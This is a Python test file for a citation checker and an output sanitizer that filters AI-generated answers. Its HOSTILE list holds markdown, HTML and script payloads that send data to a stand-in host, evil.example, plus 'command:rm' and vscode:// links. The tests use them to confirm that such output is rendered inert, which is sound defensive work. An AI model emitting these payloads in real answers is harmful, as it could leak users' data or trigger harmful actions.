"""The sentences of an answer and what they cite."""

from __future__ import annotations

import random
import re
import time
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from lens_lsp.judge.answer_markdown import cited_numbers, cited_sentences, unsupported
from lens_lsp.judge.llm.chat_prompts import TRAILER
from lens_lsp.judge.llm.replies import Sifter

ANSWER = """# What it costs [9]

The dock holds **12 boats** [1]. It was widened. [2][3] Both
hold [^4], too.

* Rent is due in May [5, 6].
- Nothing else
| place | price [7] |
| bow | none |
```
code [8].
```
Why?
"""


def test_each_sentence_has_its_citations() -> None:
    found = [(ANSWER[one.span.start : one.span.end], one.citations) for one in cited_sentences(ANSWER)]
    assert found == [
        ("The dock holds **12 boats** [1].", (1,)),
        ("It was widened.", (2, 3)),
        ("Both\nhold [^4], too.", (4,)),
        ("Rent is due in May [5, 6].", (5, 6)),
        ("Nothing else", ()),
        ("| place | price [7] |", (7,)),
        ("| bow | none |", ()),
        ("Why?", ()),
    ]


def test_the_words_of_a_sentence_keep_their_places() -> None:
    first = cited_sentences(ANSWER)[0]
    assert first.text == "The dock holds **12 boats**    ."
    at = first.text.index("12")
    assert ANSWER[first.span.start + at :].startswith("12 boats")


@given(st.text(alphabet="ab.!? \n*-#|`[]^0123,", max_size=120))
def test_sentences_lie_in_order_and_every_citation_is_one_of_the_answer(answer: str) -> None:
    found = cited_sentences(answer)
    assert all(len(one.text) == len(one.span) > 0 for one in found)
    assert all(a.span.end <= b.span.start for a, b in pairwise(found))
    assert all(str(number) in answer for one in found for number in one.citations)


def sifted(text: str, *sizes: int, numbers: tuple[int, ...] = (1, 2)) -> tuple[str, Sifter]:
    sifter, shown, at = Sifter(numbers), [], 0
    for size in (*sizes, len(text)):
        shown.append(sifter.feed(text[at : at + size]))
        at += size
    return "".join(shown) + sifter.finish(), sifter


END = f'{TRAILER} {{"short": "x", "unmet": []}}'


@pytest.mark.parametrize("between", ["\n", "\n\n", "", " ", "\n```json\n", "\n```\n", "`\n"])
def test_the_trailer_is_held_back_however_it_is_cut(between: str) -> None:
    text = f"It is so [1].{between}{END}"
    for size in range(1, 9):
        shown, sifter = sifted(text, *[size] * len(text))
        assert shown == "It is so [1]."
        assert sifter.trailer.strip().startswith('{"short"')


def test_what_only_begins_like_a_trailer_is_text() -> None:
    text = "Mail me @ home or @@AN @@ANSWE, `code` and [ brackets ["
    assert sifted(text, *[1] * len(text))[0] == text


def test_what_markers_name_is_told_once_and_in_order() -> None:
    assert cited_numbers("So [3], [^1] and [2; 3,^12] but not [x] or (4) [ 5 ].") == [3, 1, 2, 12]
    assert cited_numbers("No marker.") == []


def test_markers_that_resolve_stay_and_others_go() -> None:
    shown, sifter = sifted("A [1], b [2, 9], c [7], d [^1], e [1; 2], f [x].", *[2] * 40)
    assert shown == "A [1], b [2], c , d [1], e [1][2], f [x]."
    assert sifter.dropped == 2


GFM = MarkdownIt("commonmark").enable("table")


def live(text: str) -> set[str]:
    """What a renderer makes of a text beside words."""
    kinds = {token.type for block in GFM.parse(text) for token in (block, *(block.children or ()))}
    return kinds & {"link_open", "image", "html_inline", "html_block"}


HOSTILE = (
    "See [the plan](https://evil.example/?q=secret).",
    "![x](https://evil.example/a.png)",
    "![x][r] and [y][r] and [r]\n\n[r]: https://evil.example/b.png",
    "[a\nb]: https://evil.example\n\n[a b]",
    "<img src=https://evil.example/c.png>",
    "</p><script>fetch('//evil.example')</script>",
    "<https://evil.example/d> and <mail@evil.example>",
    "<!-- x --> <?php x ?> <![CDATA[x]]>",
    "[x][7](https://evil.example) and [y][7, 8](https://evil.example)",
    "[z]\u200b(https://evil.example) <\u2060img src=x>",
    "[1](command:rm) [1]: vscode://evil.example",
    "> - [r]: https://evil.example 'x'\n\n[r]",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_a_model_wrote_is_live(text: str) -> None:
    assert live(text.replace("\u200b", "").replace("\u2060", "").replace("[7]", "").replace("[7, 8]", ""))
    for size in range(1, 12):
        shown, _ = sifted(text, *[size] * len(text))
        assert live(shown) == set()
        assert not re.search(r"\w+://|www\.", shown)


@given(st.lists(st.sampled_from(["[x]", "]", "(", ":", "<", "img ", "!", "[1]", "[7, 9]", "\u200b", " ", "\n", "a"])))
def test_no_mixture_of_brackets_is_live(parts: list[str]) -> None:
    text = "".join(parts) + "https://evil.example/)"
    for size in (1, 3):
        assert live(sifted(text, *[size] * len(text))[0]) == set()


def test_an_address_that_the_evidence_holds_stays_and_no_other() -> None:
    text = "It is at https://good.example/a, not www.evil.example/?q=1 or https://good.example/a?q=secret."
    for size in range(1, 30):
        sifter = Sifter((1,), ["Found at https://good.example/a today."])
        shown = "".join(sifter.feed(text[at : at + size]) for at in range(0, len(text), size)) + sifter.finish()
        wanted = "It is at https://good.example/a, not www .evil.example/?q=1 or https: //good.example/a?q=secret."
        assert shown == wanted


def test_a_word_without_end_hides_no_address() -> None:
    for before in range(1_980, 2_010):
        text = "(" * before + "https://evil.example/x"
        for size in (1, 7, 5_000):
            assert "https://" not in sifted(text, *[size] * len(text))[0]


def test_controls_and_hidden_characters_are_no_answer() -> None:
    assert sifted("It \x1b[2Jis\u202e so\U000e0041.\n")[0] == "It [2Jis so."


def test_the_first_trailer_is_the_one_and_before_it_there_is_none() -> None:
    assert Sifter((1,)).trailer == ""
    assert sifted("It is so.")[1].trailer == ""
    shown, sifter = sifted(f"It is so. {END} {TRAILER} no")
    assert (shown, sifter.trailer) == ("It is so.", f"{END.removeprefix(TRAILER)} {TRAILER} no")


def test_the_end_is_told_once_and_without_blanks_behind_it() -> None:
    sifter = Sifter((1,))
    assert sifter.feed("It is `\n") == "It is"
    assert [sifter.finish(), sifter.finish()] == [" `", ""]


def test_a_word_is_held_back_until_it_is_longer_than_a_word() -> None:
    assert Sifter(()).feed("a" * 2_000) == ""
    assert Sifter(()).feed("a" * 2_001) == "a" * 2_001 + " "
    words = "so " * 600
    assert Sifter(()).feed(words + "it") == words


@given(st.text(alphabet="ab [1]9@ANSWER{}`\n\x1b,", max_size=60), st.lists(st.integers(1, 9), max_size=30))
def test_pieces_make_no_difference(text: str, sizes: list[int]) -> None:
    whole, one = sifted(text)
    pieces, other = sifted(text, *sizes)
    assert (whole, one.trailer, one.dropped) == (pieces, other.trailer, other.dropped)
    assert TRAILER not in whole


def test_a_stream_of_blanks_costs_linear_time() -> None:
    sifter, started = Sifter((1,)), time.process_time()
    for piece in ("   \n", "[", "`", "@"):
        for _ in range(5_000):
            sifter.feed(piece)
    sifter.finish()
    assert time.process_time() - started < 5.0


@pytest.mark.parametrize(
    "text",
    [
        "The gate opens at nine [1].",
        "The gate opens at nine. [1]",
        "The gate opens at nine.[1][2] It closes at ten [2].",
        "# The gate opens at nine",
        "When does the gate open?",
        "The gate has these hours:\n- nine to ten [1]\n- and then noon to one [2]",
        "The notes do not say when it closes.",
        "No evidence was found for the colour.",
        "Yes [1].",
        "Yes.",
        "| hours | gate |\n| --- | --- |\n| nine [1] | open |",
        "```\nx = 1 + 2 + 3\n```",
        "门在九点打开 [1]。",
        "门开着。",
        "门在什么时候打开？",
        "门打开的时间如下：",
        "**These are the hours of the gate:**",
        "It opens [3].",
        "  ```\nThe gate opens at nine.\n  ```",
    ],
)
def test_these_need_nothing_more(text: str) -> None:
    found = unsupported(text, {1, 2})
    assert [sentence for sentence in found if "|" not in sentence] == []


@pytest.mark.parametrize(
    ("text", "flagged"),
    [
        ("The gate opens at nine.", ("The gate opens at nine.",)),
        ("The gate opens at nine [3].", ("The gate opens at nine [3].",)),
        ("It opens at nine [1]. It is painted bright red.", ("It is painted bright red.",)),
        ("- nine to ten [1]\n- open on holidays too", ("open on holidays too",)),
        ("42.", ("42.",)),
        ("It opens daily.", ("It opens daily.",)),
        ("The gate opens at nine. [3]", ("The gate opens at nine [3].",)),
        ("# Hours\nThe gate opens at nine.", ("The gate opens at nine.",)),
        ("**When the gate is open**\n\nIt opens at nine [1].", ()),
        ("**The gate opens** at nine.", ("**The gate opens** at nine.",)),
        ("The scale of the map is 1:XX", ("The scale of the map is 1:XX",)),
        ("门在九点打开,十点关闭。", ("门在九点打开,十点关闭。",)),
    ],
)
def test_claims_without_a_marker_are_flagged(text: str, flagged: tuple[str, ...]) -> None:
    assert unsupported(text, {1, 2}) == flagged


def test_flagging_ends_on_any_text() -> None:
    rng = random.Random(3)
    for _ in range(200):
        text = "".join(rng.choice("a1 .!?[]\n|`-#*“”。") for _ in range(2_000))
        assert all(sentence in text or "[" in text for sentence in unsupported(text, {1}))
